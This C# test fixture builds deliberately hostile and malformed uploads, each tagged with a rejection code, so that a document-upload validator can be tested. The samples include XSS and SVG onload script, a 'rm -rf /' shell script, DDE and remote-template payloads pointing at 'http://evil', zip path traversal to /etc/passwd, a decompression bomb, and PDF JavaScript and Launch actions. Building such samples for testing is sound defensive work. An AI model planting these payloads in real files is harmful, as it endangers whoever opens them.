using System.IO.Compression;
using System.Text;

namespace TuSoi.Web.Tests.Papers;

/// <summary>Files as they must not be kept, each with the code of its refusal; and some that are right.</summary>
internal static class BadFiles
{
    public const string ContentTypes = """<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>""";

    public static IReadOnlyList<(string What, string Code, string Name, byte[] Content)> All { get; } =
    [
        ("trống", "file.empty", "a.pdf", []),
        ("quá 20 MB", "file.large", "a.pdf", [.. "%PDF-1.7\n"u8, .. new byte[20 * 1024 * 1024], .. "%%EOF"u8]),
        ("không rõ", "file.unknown", "a.pdf", Bytes("chỉ là chữ, không phải giấy")),
        ("trang web tên pdf", "file.html", "bien-ban.pdf", Bytes("<!DOCTYPE html><html><body>x</body></html>")),
        ("trang web có BOM", "file.html", "a.png", [0xEF, 0xBB, 0xBF, .. "  <html><script>alert(1)</script></html>"u8]),
        ("svg tên png", "file.svg", "anh.png", Bytes("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>")),
        ("chương trình Windows", "file.program", "bien-ban.pdf.exe", [.. "MZ"u8, .. new byte[200]]),
        ("chương trình Linux tên ảnh", "file.program", "a.jpg", [0x7F, .. "ELF"u8, .. new byte[200]]),
        ("kịch bản", "file.program", "a.pdf", Bytes("#!/bin/sh\nrm -rf /\n")),
        ("tệp nén", "file.archive", "a.docx", Zip(("giay.txt", "x"))),
        ("rar", "file.archive", "a.pdf", [.. "Rar!\x1a\x07"u8, .. new byte[50]]),
        ("doc cũ", "file.old", "a.doc", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[600]]),
        ("rtf", "file.old", "a.docx", Bytes("{\\rtf1 abc}")),
        ("docx có mật khẩu", "file.encrypted", "a.docx", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[600], .. Encoding.Unicode.GetBytes("EncryptedPackage")]),
        ("docm: vbaProject", "file.macro", "a.docx", Docx(("word/vbaProject.bin", "x"))),
        ("docm: loại", "file.macro", "a.docx", Zip(("[Content_Types].xml", ContentTypes.Replace("wordprocessingml.document.main", "ms-word.document.macroEnabled.main", StringComparison.Ordinal).Replace("officedocument.ms-word", "ms-word", StringComparison.Ordinal)), ("word/document.xml", "<x/>"))),
        ("docx có ActiveX", "file.activex", "a.docx", Docx(("word/activeX/activeX1.xml", "<x/>"))),
        ("docx nhúng tệp", "file.embedded", "a.docx", Docx(("word/embeddings/oleObject1.bin", "x"))),
        ("docx chứa chương trình", "file.embedded", "a.docx", Docx(("word/media/a.exe", "MZ"))),
        ("docx mẫu ở nơi khác", "file.external", "a.docx", Docx(("word/_rels/settings.xml.rels", "<Relationships><Relationship Id=\"r\" Type=\"http://x/attachedTemplate\" Target=\"http://evil/a.dotm\" TargetMode=\"External\"/></Relationships>"))),
        ("docx có DDE", "file.external", "a.docx", Docx(("word/footer.xml", "<w:instrText>DDEAUTO c:\\\\cmd</w:instrText>"))),
        ("docx có DOCTYPE", "file.doctype", "a.docx", Docx(("word/settings.xml", "<!DOCTYPE x [<!ENTITY a \"b\">]><x>&a;</x>"))),
        ("docx đường dẫn lạ", "file.path", "a.docx", Docx(("../../etc/passwd", "x"))),
        ("docx bung quá lớn", "file.bomb", "a.docx", Docx(("word/media/x.xml", new string('0', 30_000_000)))),
        ("docx hỏng", "file.broken", "a.docx", [.. Docx().Take(120)]),
        ("zip có Content_Types nhưng không phải Word", "file.unknown", "a.docx", Zip(("[Content_Types].xml", "<Types/>"), ("ppt/x.xml", "<x/>"))),
        ("pdf chưa hết", "file.broken", "a.pdf", Bytes("%PDF-1.7\n1 0 obj\n<<>>\nendobj\n")),
        ("pdf có JavaScript", "file.pdf.script", "a.pdf", Pdf("<< /S /JavaScript /JS (app.alert(1)) >>")),
        ("pdf JavaScript viết bằng #", "file.pdf.script", "a.pdf", Pdf("<< /S /J#61va#53cript /JS (x) >>")),
        ("pdf JavaScript trong luồng nén", "file.pdf.script", "a.pdf", Pdf("<< /Type /ObjStm /Filter /FlateDecode /N 1 >>\nstream\n", Deflated("1 0 << /S /JavaScript >>"), "\nendstream")),
        ("pdf luồng đối tượng không mở được", "file.pdf.odd", "a.pdf", Pdf("<< /Type /ObjStm /Filter /LZWDecode /N 1 >>\nstream\n", Bytes("\u0001\u0002xyz"), "\nendstream")),
        ("pdf gọi chương trình", "file.pdf.launch", "a.pdf", Pdf("<< /S /Launch /F (cmd.exe) >>")),
        ("pdf đính kèm tệp", "file.pdf.embedded", "a.pdf", Pdf("<< /Type /EmbeddedFile >>")),
        ("pdf gửi dữ liệu", "file.pdf.action", "a.pdf", Pdf("<< /S /SubmitForm /F (http://x) >>")),
        ("pdf tự mở địa chỉ", "file.pdf.action", "a.pdf", Pdf("<< /Type /Catalog /OpenAction << /S /URI /URI (http://x) >> >>")),
        ("pdf biểu mẫu động", "file.pdf.form", "a.pdf", Pdf("<< /AcroForm << /XFA 3 0 R >> >>")),
        ("pdf có phim", "file.pdf.media", "a.pdf", Pdf("<< /Subtype /RichMedia >>")),
        ("pdf có mật khẩu", "file.encrypted", "a.pdf", Pdf("<< /Root 1 0 R /Encrypt 5 0 R >>")),
        ("pdf sau nội dung khác", "file.disguised", "a.pdf", [.. "GIF89a "u8, .. Pdf("<< >>")]),
        ("png hỏng", "file.broken", "a.png", [.. Png().Take(40)]),
        ("png sai tổng kiểm", "file.broken", "a.png", [.. Png()[..20], 9, .. Png()[21..]]),
        ("jpeg hỏng", "file.broken", "a.jpg", [0xFF, 0xD8, 0xFF, 0xE0, 0, 16, 1, 2, 3]),
        ("jpeg không có ảnh", "file.broken", "a.jpg", [0xFF, 0xD8, 0xFF, 0xD9]),
    ];

    public static byte[] Pdf(string inside) => Pdf(inside, [], "");

    public static byte[] Pdf(string before, byte[] stream, string after) => [.. Bytes($"%PDF-1.7\n1 0 obj\n{before}"), .. stream, .. Bytes($"{after}\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")];

    public static byte[] Docx(params (string Name, string Text)[] more) => Zip([("[Content_Types].xml", ContentTypes), ("word/document.xml", "<w:document xmlns:w=\"x\"/>"), .. more]);

    public static byte[] Zip(params (string Name, string Text)[] parts)
    {
        using var bytes = new MemoryStream();
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
            foreach (var (name, text) in parts)
            {
                using var to = zip.CreateEntry(name).Open();
                to.Write(Bytes(text));
            }
        return bytes.ToArray();
    }

    /// <summary>One grey pixel, with a text and a time that must go.</summary>
    public static byte[] Png() =>
    [
        0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, .. Chunk("IHDR", [0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0]), .. Chunk("tEXt", Bytes("Author\0Nguyen Van A")), .. Chunk("eXIf", Bytes("MM GPS")),
        .. Chunk("IDAT", Deflated("\0\u007f")), .. Chunk("IEND", []), .. "đuôi"u8,
    ];

    /// <summary>A picture of the right shape, taken on its side, with the place where it was taken and a comment.</summary>
    public static byte[] Jpeg() =>
    [
        0xFF, 0xD8, 0xFF, 0xE0, 0, 16, .. "JFIF\0"u8, 1, 1, 0, 0, 1, 0, 1, 0, 0,
        0xFF, 0xE1, 0, 60, .. "Exif\0\0II*\0"u8, 8, 0, 0, 0, 1, 0, 0x12, 0x01, 3, 0, 1, 0, 0, 0, 6, 0, 0, 0, .. "GPS 21.0278N 105.8342E Camera X1"u8[..30],
        0xFF, 0xFE, 0, 9, .. "bi mat"u8, 0,
        0xFF, 0xDB, 0, 67, 0, .. Enumerable.Repeat((byte)1, 64), 0xFF, 0xC0, 0, 11, 8, 0, 1, 0, 1, 1, 1, 0x11, 0, 0xFF, 0xC4, 0, 20, 0, 1, .. new byte[15], 0,
        0xFF, 0xDA, 0, 8, 1, 1, 0, 0, 63, 0, 0x12, 0xFF, 0x00, 0x34, 0xFF, 0xD9, .. "GPS sau ảnh"u8,
    ];

    private static byte[] Bytes(string text) => Encoding.UTF8.GetBytes(text);

    public static byte[] Deflated(string text)
    {
        using var to = new MemoryStream();
        using (var zlib = new ZLibStream(to, CompressionLevel.Fastest, leaveOpen: true)) zlib.Write(Encoding.Latin1.GetBytes(text));
        return to.ToArray();
    }

    private static byte[] Chunk(string kind, byte[] data)
    {
        byte[] body = [.. Encoding.Latin1.GetBytes(kind), .. data];
        var crc = uint.MaxValue;
        foreach (var b in body)
        {
            crc ^= b;
            for (var i = 0; i < 8; i++) crc = (crc & 1) != 0 ? 0xEDB88320 ^ (crc >> 1) : crc >> 1;
        }
        crc = ~crc;
        return [(byte)(data.Length >> 24), (byte)(data.Length >> 16), (byte)(data.Length >> 8), (byte)data.Length, .. body, (byte)(crc >> 24), (byte)(crc >> 16), (byte)(crc >> 8), (byte)crc];
    }
}
